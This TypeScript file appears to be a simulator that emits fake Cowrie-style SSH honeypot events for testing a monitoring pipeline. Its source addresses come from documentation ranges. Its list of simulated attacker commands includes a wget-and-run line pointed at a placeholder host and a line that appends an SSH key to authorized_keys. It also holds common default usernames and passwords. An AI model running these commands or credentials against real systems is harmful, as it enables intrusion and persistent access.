// Synthetic cowrie-like attack traffic. Each simulated node walks one SSH session at a time
// (connect -> failed logins -> maybe success + commands -> closed), so event streams look like
// what a real cowrie pot forwards. Source addresses come from the documentation ranges
// (RFC 5737) so generated data can never be mistaken for a real attacker.

export interface AttackEvent {
  eventid: string;
  /** cowrie-like JSON data for the documented PotEvent form. */
  data: Record<string, unknown>;
  /** Human text the public node forwards as PotStatusUpdate{status:""}. */
  text: string;
}

const USERNAMES = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'user', 'postgres'];
const PASSWORDS = ['123456', 'password', 'admin', 'root', '12345678', 'qwerty', 'raspberry', 'letmein', '1q2w3e4r'];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp && wget http://198.51.100.7/x.sh && sh x.sh',
  'echo "ssh-rsa AAAAB3Nza... key" >> ~/.ssh/authorized_keys',
  'free -m',
  'ls -la /var/tmp',
  'crontab -l',
];
const DOC_NETS = ['192.0.2.', '198.51.100.', '203.0.113.'];

function pick<T>(list: readonly T[]): T {
  return list[Math.floor(Math.random() * list.length)]!;
}

function sessionId(): string {
  return Math.floor(Math.random() * 0xffffffffffff).toString(16).padStart(12, '0');
}

/** Per-node session state: a handful of fields, so thousands of nodes stay cheap. */
export class AttackSession {
  private session = '';
  private srcIp = '';
  private srcPort = 0;
  private startedAt = 0;
  private loginsLeft = 0;
  private commandsLeft = 0;
  private loggedIn = false;

  constructor(
    private readonly sensor: string,
    private readonly dstIp = '10.0.0.5',
    private readonly dstPort = 2222,
  ) {}

  private lastNow = NaN;
  private lastTimestamp = '';

  next(now = Date.now()): AttackEvent {
    // A tick sends its whole burst with one clock reading: format it once. Each event's data is
    // one object literal (same keys, same order as cowrie) rather than a spread of a shared base,
    // which kept the simulator busy reshaping objects.
    if (now !== this.lastNow) {
      this.lastNow = now;
      this.lastTimestamp = new Date(now).toISOString();
    }
    const timestamp = this.lastTimestamp;
    const { sensor, dstIp: dst_ip, dstPort: dst_port } = this;
    if (this.session === '') {
      this.session = sessionId();
      this.srcIp = pick(DOC_NETS) + (1 + Math.floor(Math.random() * 254));
      this.srcPort = 1024 + Math.floor(Math.random() * 64000);
      this.startedAt = now;
      this.loginsLeft = 1 + Math.floor(Math.random() * 3);
      this.commandsLeft = 1 + Math.floor(Math.random() * 2);
      this.loggedIn = false;
      const { session, srcIp: src_ip, srcPort: src_port } = this;
      const text = `New connection: ${src_ip}:${src_port} (${dst_ip}:${dst_port}) [session: ${session}]`;
      const eventid = 'cowrie.session.connect';
      return { eventid, text, data: { eventid, session, src_ip, src_port, dst_ip, dst_port, sensor, timestamp, protocol: 'ssh', message: text } };
    }
    const { session, srcIp: src_ip, srcPort: src_port } = this;
    if (!this.loggedIn && this.loginsLeft > 0) {
      this.loginsLeft--;
      const username = pick(USERNAMES);
      const password = pick(PASSWORDS);
      // the last attempt of a session succeeds half of the time, so commands follow
      const success = this.loginsLeft === 0 && Math.random() < 0.5;
      this.loggedIn = success;
      const eventid = success ? 'cowrie.login.success' : 'cowrie.login.failed';
      const text = `login attempt [${username}/${password}] ${success ? 'succeeded' : 'failed'}`;
      return { eventid, text, data: { eventid, session, src_ip, src_port, dst_ip, dst_port, sensor, timestamp, username, password, message: text } };
    }
    if (this.loggedIn && this.commandsLeft > 0) {
      this.commandsLeft--;
      const input = pick(COMMANDS);
      const text = `CMD: ${input}`;
      const eventid = 'cowrie.command.input';
      return { eventid, text, data: { eventid, session, src_ip, src_port, dst_ip, dst_port, sensor, timestamp, input, message: text } };
    }
    const duration = Math.max(0, Math.round((now - this.startedAt) / 1000));
    const text = `Connection lost after ${duration} seconds`;
    const eventid = 'cowrie.session.closed';
    this.session = '';
    return { eventid, text, data: { eventid, session, src_ip, src_port, dst_ip, dst_port, sensor, timestamp, duration, message: text } };
  }
}
